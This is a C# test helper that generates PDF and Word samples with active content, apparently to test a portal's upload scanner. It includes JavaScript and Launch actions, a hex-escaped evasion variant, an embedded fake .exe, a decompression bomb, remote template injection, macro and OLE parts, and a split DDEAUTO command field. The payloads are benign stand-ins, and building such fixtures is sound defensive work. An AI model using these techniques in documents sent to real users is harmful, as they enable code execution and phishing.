using System.IO.Compression;
using System.Text;
using PdfSharp.Drawing;
using PdfSharp.Pdf;

namespace Portal.Testing;

/// <summary>
/// PDFs and Word files with active content (scripts, launch actions, embedded files, macros, remote templates) and their
/// harmless look-alikes, built in code: the same bytes every run. The PDFs have real cross-reference data (a table, or
/// an xref stream where objects sit in an object stream), so a reader opens them as an official would.
/// </summary>
public static class ActiveContentSamples
{
    public const string Script = "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>";

    /// <summary>A one-page PDF; <paramref name="catalog"/> adds entries to its catalog, <paramref name="objects"/> are objects 4, 5, ….</summary>
    public static byte[] Pdf(string catalog = "", params string[] objects) => Assemble(
    [
        Ascii($"<< /Type /Catalog /Pages 2 0 R {catalog}>>"),
        Ascii("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        Ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"),
        .. objects.Select(Ascii),
    ]);

    public static byte[] PdfWithScript() => Pdf("/OpenAction 4 0 R ", Script);

    /// <summary>The same action with its names hex-escaped, as a reader still decodes them: /J#61vaScript is /JavaScript, /J#53 is /JS.</summary>
    public static byte[] PdfWithEscapedScript() => Pdf("/OpenAction 4 0 R ", "<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>");

    public static byte[] PdfWithLaunch() => Pdf("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> ");

    public static byte[] PdfWithEmbeddedFile() => Pdf("/Names << /EmbeddedFiles << /Names [(hoa-don.exe) 5 0 R] >> >> ",
        "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream", "<< /Type /Filespec /F (hoa-don.exe) /EF << /F 4 0 R >> >>");

    /// <summary>
    /// The page tree and <paramref name="action"/> (when given, the catalog's /OpenAction) inside one FlateDecode object
    /// stream, found through an xref stream: in the file's own bytes there is nothing but compressed data.
    /// </summary>
    public static byte[] PdfWithObjectStream(string? action = Script, string filter = "/Filter /FlateDecode", Func<byte[], byte[]>? encode = null)
    {
        string[] inner = action is null ? ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>"] : ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>", action];
        int[] numbers = [2, 5];
        var header = new StringBuilder();
        var body = new StringBuilder();
        for (var i = 0; i < inner.Length; i++)
        {
            header.Append(System.Globalization.CultureInfo.InvariantCulture, $"{numbers[i]} {body.Length} ");
            body.Append(inner[i]).Append('\n');
        }

        var data = (encode ?? ZLib)(Ascii(header.ToString() + body));
        var catalog = action is null ? "<< /Type /Catalog /Pages 2 0 R >>" : "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>";
        using var pdf = new MemoryStream();
        Write(pdf, "%PDF-1.7\n");
        pdf.Write([(byte)'%', 0xE2, 0xE3, 0xCF, 0xD3, (byte)'\n']);
        var offsets = new long[7];
        offsets[1] = Object(pdf, 1, Ascii(catalog));
        offsets[3] = Object(pdf, 3, Ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"));
        offsets[4] = Object(pdf, 4, [.. Ascii($"<< /Type /ObjStm /N {inner.Length} /First {header.Length} {filter} /Length {data.Length} >>\nstream\n"), .. data,
            .. "\nendstream"u8]);
        offsets[6] = pdf.Position;
        var entries = new List<byte>();
        for (var n = 0; n < 7; n++)
        {
            var (type, field, index) = n switch
            {
                0 => (0, 0L, 65535),
                2 => (2, 4L, 0),
                5 => (action is null ? 0 : 2, action is null ? 0L : 4L, action is null ? 0 : 1),
                _ => (1, offsets[n], 0),
            };
            entries.AddRange([(byte)type, (byte)(field >> 24), (byte)(field >> 16), (byte)(field >> 8), (byte)field, (byte)(index >> 8), (byte)index]);
        }

        Object(pdf, 6, [.. Ascii($"<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length {entries.Count} >>\nstream\n"), .. entries, .. "\nendstream"u8]);
        Write(pdf, $"startxref\n{offsets[6]}\n%%EOF\n");
        return pdf.ToArray();
    }

    /// <summary>An object stream that inflates to <paramref name="bytes"/> of spaces around one harmless object.</summary>
    public static byte[] PdfWithObjectStreamBomb(int bytes) => PdfWithObjectStream(null, encode: content => ZLib([.. content, .. Enumerable.Repeat((byte)' ', bytes)]));

    /// <summary>A page drawn with PDFsharp, with a plain https link (a /URI action) when <paramref name="link"/> is given.</summary>
    public static byte[] PdfSharpPage(string? link = null)
    {
        using var document = new PdfDocument();
        document.Info.Title = "Giấy tờ mẫu";
        var page = document.AddPage();
        using (var gfx = XGraphics.FromPdfPage(page))
        {
            gfx.DrawRectangle(XPens.Black, XBrushes.LightGray, 50, 50, 300, 120);
            gfx.DrawLine(XPens.DarkBlue, 50, 200, 350, 260);
        }

        if (link is not null)
        {
            page.AddWebLink(new PdfRectangle(new XRect(50, 50, 300, 120)), link);
        }

        using var output = new MemoryStream();
        document.Save(output);
        return output.ToArray();
    }

    /// <summary>A minimal Word document; each extra part is a (path, content) pair, added or replacing the default one.</summary>
    public static byte[] Docx(params (string Path, string Content)[] parts)
    {
        var all = new Dictionary<string, string>(StringComparer.Ordinal)
        {
            ["[Content_Types].xml"] = ContentTypes(),
            ["_rels/.rels"] = Rels(("rId1", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument", "word/document.xml", null)),
            ["word/document.xml"] = Document("<w:p><w:r><w:t>Đơn đề nghị</w:t></w:r></w:p>"),
        };
        foreach (var (path, content) in parts)
        {
            all[path] = content;
        }

        return Zip([.. all.Select(p => (p.Key, Encoding.UTF8.GetBytes(p.Value)))]);
    }

    /// <summary>The classic template injection: settings.xml attaches a template Word fetches from a remote host on opening.</summary>
    public static byte[] DocxWithRemoteTemplate(string target = "http://203.0.113.7/mau/don.dotm") => Docx(
        ("word/settings.xml", $"<w:settings {Namespaces}><w:attachedTemplate r:id=\"rId1\"/></w:settings>"),
        ("word/_rels/settings.xml.rels", Rels(("rId1", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", target, "External"))),
        ("word/_rels/document.xml.rels", Rels(("rId1", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings", "settings.xml", null))));

    /// <summary>A macro-enabled document (what Word saves as .docm): its content type says so and it carries vbaProject.bin.</summary>
    public static byte[] Docm()
    {
        var parts = new List<(string, byte[])>
        {
            ("[Content_Types].xml", Encoding.UTF8.GetBytes(ContentTypes("application/vnd.ms-word.document.macroEnabled.main+xml",
                "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"))),
            ("_rels/.rels", Encoding.UTF8.GetBytes(Rels(("rId1", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument", "word/document.xml", null)))),
            ("word/document.xml", Encoding.UTF8.GetBytes(Document("<w:p><w:r><w:t>Bật macro để xem nội dung</w:t></w:r></w:p>"))),
            ("word/_rels/document.xml.rels", Encoding.UTF8.GetBytes(Rels(("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", null)))),
            ("word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]]),
        };
        return Zip([.. parts]);
    }

    /// <summary>An ordinary document with a hyperlink to <paramref name="target"/> (an external …/hyperlink relationship).</summary>
    public static byte[] DocxWithHyperlink(string target = "https://dichvucong.gov.vn/") => Docx(
        ("word/document.xml", Document("<w:p><w:hyperlink r:id=\"rId5\"><w:r><w:t>Cổng Dịch vụ công quốc gia</w:t></w:r></w:hyperlink></w:p>")),
        ("word/_rels/document.xml.rels", Rels(("rId5", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink", target, "External"))));

    public static byte[] DocxWithOleObject() => Docx(
        ("word/document.xml", Document("<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" r:id=\"rId7\"/></w:object></w:r></w:p>")),
        ("word/_rels/document.xml.rels", Rels(("rId7", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "embeddings/oleObject1.bin", null))),
        ("word/embeddings/oleObject1.bin", "OLE"));

    /// <summary>A DDEAUTO field, its code split over two runs as Word itself may write it.</summary>
    public static byte[] DocxWithDdeField() => Docx(("word/document.xml", Document(
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DD</w:instrText></w:r>"
        + "<w:r><w:instrText xml:space=\"preserve\">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" </w:instrText></w:r>"
        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")));

    private const string Namespaces = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" "
        + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";

    private static string Document(string body) =>
        $"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:document {Namespaces}><w:body>{body}</w:body></w:document>";

    private static string ContentTypes(string main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", string extra = "") =>
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>"
        + extra + $"<Override PartName=\"/word/document.xml\" ContentType=\"{main}\"/></Types>";

    public static string Rels(params (string Id, string Type, string Target, string? Mode)[] relationships) =>
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + string.Concat(relationships.Select(r => $"<Relationship Id=\"{r.Id}\" Type=\"{r.Type}\" Target=\"{System.Security.SecurityElement.Escape(r.Target)}\""
            + (r.Mode is null ? string.Empty : $" TargetMode=\"{r.Mode}\"") + "/>"))
        + "</Relationships>";

    public static byte[] Zip(params (string Name, byte[] Bytes)[] entries)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, bytes) in entries)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(bytes);
            }
        }

        return memory.ToArray();
    }

    public static byte[] ZLib(byte[] content)
    {
        using var memory = new MemoryStream();
        using (var zlib = new ZLibStream(memory, CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write(content);
        }

        return memory.ToArray();
    }

    private static byte[] Assemble(IReadOnlyList<byte[]> objects)
    {
        using var pdf = new MemoryStream();
        Write(pdf, "%PDF-1.7\n");
        pdf.Write([(byte)'%', 0xE2, 0xE3, 0xCF, 0xD3, (byte)'\n']);
        var offsets = objects.Select((o, i) => Object(pdf, i + 1, o)).ToList();
        var xref = pdf.Position;
        Write(pdf, $"xref\n0 {objects.Count + 1}\n0000000000 65535 f \n" + string.Concat(offsets.Select(o => $"{o:D10} 00000 n \n")));
        Write(pdf, $"trailer\n<< /Size {objects.Count + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return pdf.ToArray();
    }

    private static long Object(MemoryStream pdf, int number, byte[] content)
    {
        var at = pdf.Position;
        Write(pdf, $"{number} 0 obj\n");
        pdf.Write(content);
        Write(pdf, "\nendobj\n");
        return at;
    }

    private static void Write(MemoryStream pdf, string text) => pdf.Write(Ascii(text));

    private static byte[] Ascii(string text) => Encoding.Latin1.GetBytes(text);
}
